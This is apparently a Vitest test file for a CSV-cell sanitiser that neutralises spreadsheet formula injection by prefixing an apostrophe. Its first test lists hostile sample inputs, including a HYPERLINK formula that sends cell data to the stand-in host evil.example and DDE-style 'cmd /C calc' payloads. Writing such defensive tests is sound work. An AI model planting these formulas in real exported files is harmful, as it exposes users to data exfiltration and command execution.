import { describe, expect, it } from 'vitest';
import { neutraliseCsvCell, startsLikeFormula } from './csv';

describe('CSV cells a spreadsheet opens safely', () => {
  it('prefixes an apostrophe to a text starting with =, +, -, @, a tab or a carriage return', () => {
    const hostile = [
      '=HYPERLINK("http://evil.example/?"&A1,"click")',
      '+33 6 12 34 56 78',
      '-2+3+cmd|\' /C calc\'!A0',
      '@SUM(1+1)*cmd|\' /C calc\'!A0',
      '\t=1+1',
      '\r=1+1',
      '-',
      '=',
    ];
    for (const value of hostile) {
      expect(neutraliseCsvCell(value), JSON.stringify(value)).toBe(`'${value}`);
      expect(startsLikeFormula(value)).toBe(true);
    }
  });

  it('leaves numbers as they are, whatever their decimal mark or sign', () => {
    for (const value of ['-12,50', '-12.50', '-0,05', '1234,56', '0.00', '-3', '+7', '42', '-1481,47']) {
      expect(neutraliseCsvCell(value), value).toBe(value);
    }
  });

  it('leaves plain text, dates, invoice numbers and empty cells alone', () => {
    for (const value of ['Anne Durand', 'FA-2026-00001', '05/11/2026', '2026-11-05', '', ' =1+1', 'Transports = fiables', "'déjà"]) {
      expect(neutraliseCsvCell(value), value).toBe(value);
    }
  });
});
